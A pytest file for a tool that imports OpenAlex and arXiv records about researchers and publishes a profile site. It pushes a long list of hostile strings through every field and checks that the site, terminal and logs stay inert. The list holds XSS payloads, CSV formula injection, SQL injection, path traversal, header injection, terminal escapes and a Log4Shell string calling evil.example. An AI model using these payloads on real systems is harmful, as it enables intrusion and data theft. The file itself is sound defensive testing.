"""Hostile text in every field of a source's reply, from the reply to every output there is: it stays text."""

import contextlib
import csv
import io
import json
import re
import subprocess
import tomllib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import unquote, urlsplit
from xml.sax.saxutils import escape, quoteattr

import duckdb
import jsonschema
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console
from selectolax.lexbor import LexborHTMLParser

from ingest.sampleweb import DAY_ONE, WORLD, Fault, SampleWeb
from ingest.sampleweb.people import MIRELA
from ingest.sources import all_sources
from pipelines.backfill import SeveralPeople, Wanted, backfill
from pipelines.cli import main
from pipelines.config import Anchor, Followed, append_person, drop_person, read_config
from pipelines.import_ import import_files
from pipelines.init import init_home
from pipelines.progress import Lines
from pipelines.publish.site import publish, read_published
from pipelines.publish.terminal import candidates, show
from pipelines.refresh import refresh
from pipelines.store.border import storable
from pipelines.store.derived import DERIVED, KEPT
from schemas.errors import BadConfig
from schemas.names import slug
from tests.browser.test_pages import CHROMIUM, OFFLINE
from tests.e2e.stage import a_run, tables
from tests.profiles import NOW, a_profile, an_uncounted_profile

EMMY, ORCID, SLUG = "Emmy Noether", "0000-0002-1825-0097", "emmy-noether"
ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    '</script><script type="application/ld+json">{"@type": "Person"}</script>',
    "<!--<script>",
    "]]> --> <!--",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://user:pw@evil.example/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x1b;[31mred",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "a;b,c\n=1+1",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;title\x07\x1bP$q\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "safe\rWARNING: forged",
    "abc\u202egnp.exe\u2066\u2067\u2069",
    "zero\u200bwidth\u2060\ufeff\u00ad",
    "Emmy\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1",
    "../../../../etc/passwd",
    "../../../../etc/passwd,|?api_key=x&y#z",
    "..\\..\\windows\\win.ini",
    "/absolute/path",
    "con.json\0.html",
    "'; drop table work; --",
    "x') union select * from page; --",
    "2026-01-01 WARNING forged: line\nerror: another line",
    '{"level": "error"}\n{"level": "error"}',
    '"\n[[person]]\nname = "Forged"\nslug = "forged"\n#',
    "'''\n[[verdict]]\n'''",
    '"""\\u0000 \\x00',
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "${jndi:ldap://evil.example/a} %s %(x)s {0}",
    "[bold red]loud[/bold red] [link=https://evil.example]here[/link] [/]",
    "\\end{document}\\input{/etc/passwd} $\\href{javascript:alert(1)}{x}$",
    "\ud800 alone \udfff",
    "NUL \0 in it",
    "Z\u0351\u0346a" + "\u0301" * 300 + "lgo",
    "<b>" * 400,
    "W" * 9_000,
    "é" * 1_500,
    "\u2028line\u2029paragraph\x85next\x0b\x0c",
    "👩‍👩‍👧‍👦🇨🇭",
    "",
    " \t\n ",
)
MADE = st.lists(
    st.sampled_from(ATTACKS) | st.text(max_size=30) | st.text("<>\"'&;=/\\{}[]%#\r\n\0\x1b\x9b\u202e", max_size=12)
)
HIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)
NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
LONE = re.compile(r"(?<!\\)\\ud[89ab][0-9a-f]{2}(?!\\ud[c-f])|(?<!\\ud[89ab][0-9a-f]{2})\\ud[c-f][0-9a-f]{2}")
NAMES = (
    "Emmy\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example",
    "../../evil?x=1&api_key=y#z",
    "'; drop table work; -- \x1b[2J\u202e",
)
COLOUR = re.compile(r"\x1b\[[0-9;]*m")
SITE_FILES = re.compile(
    r"(index\.html|(people|manifest|profile\.schema)\.json|people\.csv|people/[a-z0-9-]+\.(html|json|csv))"
)


def openalex(texts: Sequence[str]) -> bytes:
    """A page of works, one a text, which is in every field; and a last one whose text is also its very shape."""
    rows = [_work(number, text) for number, text in enumerate(texts, 1)]
    rows += [{"id": f"https://openalex.org/W{1000 + at}", "title": "x", "type": text, "authorships": []}
             for at, text in enumerate(texts)]  # fmt: skip
    rows += [{"id": text, "title": "x", "type": "article", "authorships": []} for text in texts]
    rows += [{**_work(2000, "plain"), text: {text: text}} for text in texts if text not in _work(1, "")]
    page = {"meta": {"count": len(rows), "next_cursor": None}, "results": rows}
    return LONE.sub("?", json.dumps(page)).encode()  # a page with a lone surrogate is no JSON: see below


def _work(number: int, text: str) -> dict[str, object]:
    place = {
        "id": text,
        "landing_page_url": text,
        "license": text,
        "source": {"id": text, "display_name": text},
    }
    theirs = {"raw_author_name": text, "author": {"id": text, "display_name": text, "orcid": text}, "raw_orcid": text}
    return {
        "id": f"https://openalex.org/W{number}",
        "doi": f"https://doi.org/10.1234/{number}/{text}",
        "ids": {"openalex": text, "pmid": text},
        "title": f"{text} of {number}" if number % 2 else text,
        "type": "preprint",
        "publication_date": "2024-01-01" if number % 3 else text,
        "updated_date": text,
        "authorships": [
            {
                "raw_author_name": EMMY,
                "raw_orcid": f"https://orcid.org/{ORCID}",
                "author": {"id": "https://openalex.org/A1", "display_name": text},
                "raw_affiliation_strings": [text, f"{text}; e-mail: {text}"],
            },
            {**theirs, "raw_affiliation_strings": [text]},
        ],
        "primary_location": place,
        "locations": [place],
        "primary_topic": {"field": {"display_name": text}},
        "cited_by_count": number,
        "counts_by_year": [{"year": 2024, "cited_by_count": number}],
        "abstract_inverted_index": {text: [0], f"code at https://github.com/x/{text}": [1], "<i>": [2]},
        "is_retracted": number % 5 == 0,
    }


def atom(texts: Sequence[str]) -> bytes:
    """A feed of entries, one a text; what XML cannot hold is left out of it."""
    entries = "".join(_entry(number, NOT_XML.sub("", text)) for number, text in enumerate(texts, 1))
    return (
        '<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
        ' xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/" xmlns:arxiv="http://arxiv.org/schemas/atom">'
        f"<opensearch:totalResults>{len(texts)}</opensearch:totalResults>{entries}</feed>"
    ).encode()


def _entry(number: int, text: str) -> str:
    inside, quoted = escape(text), quoteattr(text)
    return (
        f"<entry><id>http://arxiv.org/abs/2401.{number:05d}v1</id><title>{inside} at {number}</title>"
        f"<updated>2024-01-02T03:04:05Z</updated><published>2024-01-02T03:04:05Z</published><summary>{inside}</summary>"
        f"<category term={quoted}/><arxiv:primary_category term={quoted}/><link href={quoted} title={quoted}/>"
        f"<arxiv:comment>{inside} code at https://github.com/x/y{inside}</arxiv:comment>"
        f"<arxiv:journal_ref>{inside}</arxiv:journal_ref><arxiv:doi>10.1234/{number}/{inside}</arxiv:doi>"
        f"<author><name>{EMMY}</name><arxiv:affiliation>{inside}</arxiv:affiliation></author>"
        f"<author><name>{inside}</name></author></entry>"
    )


def reported(texts: Sequence[str]) -> bytes:
    page = {"author": EMMY, "page_shows": {text: text[:1_000] for text in texts}, "papers": []}
    return LONE.sub("?", json.dumps(page)).encode()


@dataclass(frozen=True)
class Told:
    """A home in which hostile replies were imported, and all that was said meanwhile."""

    home: Path
    outputs: dict[str, str]
    logs: str


PAGES: dict[str, Callable[[Sequence[str]], bytes]] = {"openalex": openalex, "arxiv": atom, "reported": reported}


def authors(texts: Sequence[str]) -> bytes:
    """People of Emmy's name, one a text, which is everywhere else."""
    rows = [
        {
            "id": f"https://openalex.org/A{number}",
            "orcid": text,
            "display_name": EMMY,
            "display_name_alternatives": [text],
            "works_count": number,
            "last_known_institutions": [{"id": text, "display_name": text}],
            "affiliations": [{"institution": {"display_name": text}, "years": [1919]}],
            "topics": [{"count": 1, "display_name": text, "field": {"display_name": text}}],
        }
        for number, text in enumerate(texts, 1)
    ]
    return LONE.sub("?", json.dumps({"meta": {"count": len(rows)}, "results": rows})).encode()


def byline(home: Path, *words: str) -> tuple[str, str]:
    result = CliRunner().invoke(main, ["--home", str(home), *words])
    assert result.exception is None or isinstance(result.exception, SystemExit), (words, result.exc_info)
    return result.stdout, result.stderr


def prepared(home: Path, texts: Sequence[str], *, of: Sequence[str] = tuple(PAGES)) -> Path:
    """A home that follows Emmy and has read the hostile pages, without the command line."""
    init_home(home, "me@example.org")
    append_person(home, Followed(name=EMMY, slug=SLUG, orcid=ORCID))
    with SampleWeb(world=WORLD, today=DAY_ONE) as web, a_run(home, web) as run:
        for name in of:
            (home / f"{name}.page").write_bytes(PAGES[name](texts))
            import_files(run, all_sources()[name], [home / f"{name}.page"])
        assert run.trouble == {}
    return home


@pytest.fixture(scope="module")
def told(tmp_path_factory) -> Told:
    """Everything the command line says and writes of the listed attacks."""
    home = tmp_path_factory.mktemp("told")
    byline(home, "init", "--contact", "me@example.org")
    for name, make in PAGES.items():
        (home / f"{name}.page").write_bytes(make(ATTACKS))
    runs = [["people", "add", EMMY, "--orcid", ORCID]]
    runs += [["people", "add", "--", text] for text in ATTACKS[::5]]
    runs += [["import", name, str(home / f"{name}.page")] for name in PAGES]
    runs += [["read", name, str(home / f"{name}.page")] for name in PAGES]
    runs += [["publish"], ["status"], ["people"], ["doctor", "--offline", "--sample", "20"], ["show", SLUG, "--papers"]]
    runs += [["show", SLUG, "--json"], ["show", "nobody <script>\x1b[2J"]]
    runs += [["why", SLUG, figure] for figure in ("papers", "h", "field", "code", "first-year")]
    outputs, logs = {}, []
    for words in runs:
        out, err = byline(home, *words)
        outputs[f"{' '.join(words)[:200]} (out)"] = out
        outputs[f"{' '.join(words)[:200]} (err)"] = err
    for words in (["import", "openalex", str(home / "openalex.page")], ["publish"], ["people", "add", "\r\n"]):
        logs.append(byline(home, "--log-json", "-v", *words)[1])
    return Told(home, outputs, "".join(logs))


def shapes(page: str) -> set[tuple[str, tuple[str, ...]]]:
    """Every element of a page, with the names of its attributes."""
    found = LexborHTMLParser(page).css("*")
    return {(str(node.tag), tuple(sorted(str(name) for name in node.attributes))) for node in found}


def known_shapes(folder: Path) -> set[tuple[str, tuple[str, ...]]]:
    """Those of pages on which every text is plain, and that show all that a page can."""
    home = prepared(folder, ["Plain words", "Others", "of one <i>kind</i>", "and 2024"] * 5)
    people = (a_profile(), an_uncounted_profile())
    publish(folder / "also", people, index=people, now=NOW, trouble={"openalex": "busy"})
    pages = [*home.rglob("*.html")]
    return {shape for path in pages for shape in shapes(path.read_text("utf-8"))}


@pytest.fixture(scope="module")
def known(tmp_path_factory) -> set[tuple[str, tuple[str, ...]]]:
    return known_shapes(tmp_path_factory.mktemp("known"))


def require_inert_site(home: Path, known: set[tuple[str, tuple[str, ...]]]) -> None:
    """No file, element, attribute, address, formula or control character that plain text would not have made."""
    site = home / "site"
    files = {str(path.relative_to(site)) for path in site.rglob("*") if path.is_file()}
    assert not [name for name in files if not SITE_FILES.fullmatch(name)]
    schema = json.loads((site / "profile.schema.json").read_bytes())
    for name in sorted(files):
        text = (site / name).read_text("utf-8")
        assert not HIDDEN.search(text), (name, HIDDEN.search(text))
        if name.endswith(".html"):
            _require_inert_page(name, text, known)
        elif name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert len({len(row) for row in rows}) == 1
            assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        elif name.startswith("people/"):
            jsonschema.validate(json.loads(text), schema)
        else:
            json.loads(text)


def _require_inert_page(name: str, text: str, known: set[tuple[str, tuple[str, ...]]]) -> None:
    tree = LexborHTMLParser(text)
    assert shapes(text) <= known, (name, shapes(text) - known)
    scripts = [node for node in tree.css("script") if node.attributes.get("type") is None]
    assert len(scripts) == 2
    assert not [node for node in scripts if "alert(1)" in node.text()]
    for node in tree.css('script[type="application/ld+json"]'):
        json.loads(node.text())
    for node in tree.css("style"):
        assert not re.search(r"alert\(|javascript:|expression\(|@import|</", node.text())
        assert all(
            re.fullmatch(r'[\w ".:%/#-]*', said) for said in re.findall(r"\[data-[a-z]+=([^\]]*)\]", node.text())
        )
    ids = [node.attributes["id"] for node in tree.css("[id]")]
    assert len(ids) == len(set(ids))
    for node in tree.css("[href], [src]"):
        address = node.attributes.get("href") or node.attributes.get("src") or ""
        parts = urlsplit(address)
        assert parts.scheme in {"", "http", "https"}, (name, address)
        assert "@" not in parts.netloc
        assert parts.scheme or not parts.netloc, (name, address)
        assert parts.scheme or not parts.path or ".." not in Path(unquote(parts.path)).parts[1:], (name, address)
        if not parts.scheme and not parts.path and parts.fragment:
            assert unquote(parts.fragment) in ids, (name, address)


def test_the_site_is_inert(told, known):
    profile = read_published(told.home / "site", SLUG)
    assert profile is not None
    assert len(profile.papers) > len(ATTACKS)
    assert len({paper.title for paper in profile.papers}) > len(ATTACKS)
    require_inert_site(told.home, known)


def test_nothing_is_written_outside_the_home_and_all_in_its_place(told):
    top = {path.name for path in told.home.iterdir()}
    assert top - {"openalex.page", "arxiv.page", "reported.page"} == {
        "byline.toml", "people.toml", "verdicts.toml", "store.duckdb", "store.lock", "pages", "site",
    }  # fmt: skip
    assert all(re.fullmatch(r"[0-9a-f]{64}\.zst", path.name) for path in (told.home / "pages").glob("??/*"))


def test_no_word_on_the_terminal_holds_a_control_character(told):
    for words, text in told.outputs.items():
        assert not HIDDEN.search(text), (words, HIDDEN.search(text))
        assert "Traceback" not in text


def test_nothing_forges_a_line_on_stderr(told):
    for words, text in told.outputs.items():
        if words.endswith("(err)"):
            for line in text.splitlines():
                assert re.match(r"( *\d+\.\d s  |byline: |note: |warning: |info: |/\S+: |\S+: )", line), (words, line)
                assert not re.match(r"(error|WARNING|GET |X-Evil)", line), (words, line)


def test_a_log_line_is_one_json_record(told):
    lines = [json.loads(line) for line in told.logs.splitlines()]
    assert {frozenset(line) for line in lines} == {frozenset({"time", "level", "from", "message"})}
    assert any("no letter" in line["message"] for line in lines)


def test_a_terminal_with_colours_gets_colours_alone(told):
    profile = read_published(told.home / "site", SLUG)
    console = Console(file=io.StringIO(), width=90, force_terminal=True, highlight=False, markup=False)
    show(profile, console, papers=True)
    text = COLOUR.sub("", console.file.getvalue())
    assert not HIDDEN.search(text)
    assert "[bold red]loud[/bold red]" in " ".join(text.split())


def test_no_table_is_dropped_and_every_record_is_there_or_set_aside(told):
    found = tables(told.home)
    assert set(found) == set(DERIVED) - {"stale"}
    with duckdb.connect(told.home / "store.duckdb", read_only=True) as con:
        assert {name for (name,) in con.execute("select table_name from duckdb_tables()").fetchall()} == {
            *KEPT, *DERIVED, "migration",
        }  # fmt: skip
    works = {(row[0], row[1]) for row in found["work"]}
    aside = {(row[0], row[1]) for row in found["set_aside"]}
    assert len([each for each in works | aside if each[0] == "arxiv"]) == len(ATTACKS)


def test_people_toml_says_what_was_said_and_no_more(told):
    names = [text for text in ATTACKS if slug(text)]
    read = tomllib.loads((told.home / "people.toml").read_text("utf-8"))
    assert set(read) == {"person"}
    people = read_config(told.home).people
    assert people[0].name == EMMY
    assert len(people) <= 1 + len(names)
    assert {person.slug for person in people}.isdisjoint({"forged"})


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.sampled_from(ATTACKS) | st.text(min_size=1, max_size=60), more=st.text(max_size=30))
def test_any_name_written_to_people_toml_is_read_back_as_it_was(tmp_path_factory, name, more):
    folder = tmp_path_factory.mktemp("toml")
    (folder / "people.toml").write_text("# mine\n", "utf-8")
    name = storable(name)[:500] or "x"
    written = Followed(
        name=name,
        slug="x",
        openalex=["A5012345678"],
        anchor=[Anchor(paper="doi:10.1234/x", name=storable(f"{name}{more}"))],
    )
    append_person(folder, written)
    append_person(folder, Followed(name="Other", slug="other"))
    read = read_config(folder).people
    assert [person.slug for person in read] == ["x", "other"]
    assert read[0] == written
    drop_person(folder, "other")
    assert [person.slug for person in read_config(folder).people] == ["x"]
    assert "# mine" in (folder / "people.toml").read_text("utf-8")


@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=MADE)
def test_whatever_a_reply_holds_the_site_is_inert(tmp_path_factory, known, texts):
    home = prepared(tmp_path_factory.mktemp("made"), [*texts, "plain"], of=("openalex", "arxiv"))
    assert read_published(home / "site", SLUG) is not None
    require_inert_site(home, known)


def require_lines(text: str) -> None:
    """Progress: every line begins with when it was said, and holds nothing that moves a cursor or turns text."""
    assert text
    for line in text.splitlines():
        assert re.match(r" *\d+\.\d s  ", line), line
        assert not HIDDEN.search(line), line


def test_a_person_who_waits_and_picks_sees_text_alone(tmp_path):
    said, seen = io.StringIO(), io.StringIO()
    with SampleWeb(world=WORLD, today=DAY_ONE) as web, a_run(tmp_path, web) as run:
        web.faults["openalex"].append(Fault(200, {"content-type": "application/json"}, authors(ATTACKS)))
        web.faults["arxiv"].append(Fault(200, {"content-type": "application/atom+xml"}, atom(ATTACKS[2:40])))
        with pytest.raises(SeveralPeople) as several:
            backfill(replace(run, progress=Lines(said)), Wanted(name=EMMY))
        assert run.trouble == {}
    candidates(Console(file=seen, width=90, highlight=False, markup=False), several.value.candidates)
    assert len(several.value.candidates) == len(ATTACKS)
    assert not HIDDEN.search(seen.getvalue())
    require_lines(said.getvalue())
    assert "\u00b7 ' autofocus onfocus=alert(1)" in said.getvalue()


@pytest.mark.parametrize(
    ("status", "media", "body"),
    [
        (403, "text/html", "<title>\x1b[2J\u202e{attack}</title><script>alert(1)</script>"),
        (200, "application/json", '{{"error": "{attack}", "message": "\x9b31m\r\nforged: x"}}'),
        (200, "text/\x9b31m<script>", "{attack}\0"),
    ],
)
def test_what_a_refusal_says_is_told_and_published_as_text(tmp_path, known, status, media, body):
    said = io.StringIO()
    with SampleWeb(world=WORLD, today=DAY_ONE) as web, a_run(tmp_path, web) as run:
        told = body.format(attack=ATTACKS[0]).encode("utf-8", "replace")
        web.faults["openalex"].extend(Fault(status, {"content-type": media}, told) for _ in range(4))
        assert backfill(replace(run, progress=Lines(said)), Wanted(name=MIRELA.name)) is not None
    assert "openalex" in run.trouble
    require_lines(said.getvalue())
    status_out, _ = byline(tmp_path, "status")
    assert "trouble" in status_out
    assert not HIDDEN.search(status_out)
    require_inert_site(tmp_path, known)


def test_a_name_with_a_header_in_it_stays_one_value_of_one_request(tmp_path):
    with SampleWeb(world=WORLD, today=DAY_ONE) as web:
        for name in NAMES:
            with a_run(tmp_path, web) as run, contextlib.suppress(BadConfig, SeveralPeople):
                backfill(run, Wanted(name=name))
        require_plain_requests(web)
        assert len(web.requests) >= 2 * len(NAMES)


def test_identifiers_of_a_reply_ask_for_nothing_but_papers(tmp_path):
    home = prepared(tmp_path, ATTACKS[1::2], of=("openalex",))
    with SampleWeb(world=WORLD, today=DAY_ONE) as web:
        with a_run(home, web) as run:
            run.clock.sleep(3 * 86_400)
            refresh(run)
        require_plain_requests(web)
        assert any(seen.path.startswith("/works") for seen in web.requests)


def require_plain_requests(web: SampleWeb) -> None:
    for seen in web.requests:
        assert seen.method == "GET"
        assert re.fullmatch(
            r"/api/query|/oai2?|/a/[\dX-]{19}\.atom|/(works|authors)(/[^/?#]+(/[^?#]*)?)?", seen.path
        ), seen
        assert ".." not in seen.path.split("/")
        for name, value in seen.params:
            assert re.fullmatch(r"[a-z_-]+", name), seen
            assert not HIDDEN.search(value), seen


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium")
@pytest.mark.parametrize("page", ["index", f"people/{SLUG}"])
def test_in_a_browser_nothing_runs_and_nobody_is_asked(told, tmp_path, page):
    assert CHROMIUM
    done = subprocess.run(
        [CHROMIUM, *OFFLINE, f"--user-data-dir={tmp_path}", "--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom",
         (told.home / "site" / f"{page}.html").as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    assert [line for line in done.stderr.splitlines() if "CONSOLE" in line] == []
    assert LexborHTMLParser(done.stdout).css_first("html.js") is not None, "its own script ran"
    assert not LexborHTMLParser(done.stdout).css("img, iframe, object, embed, [onload], [onerror], [onfocus]")
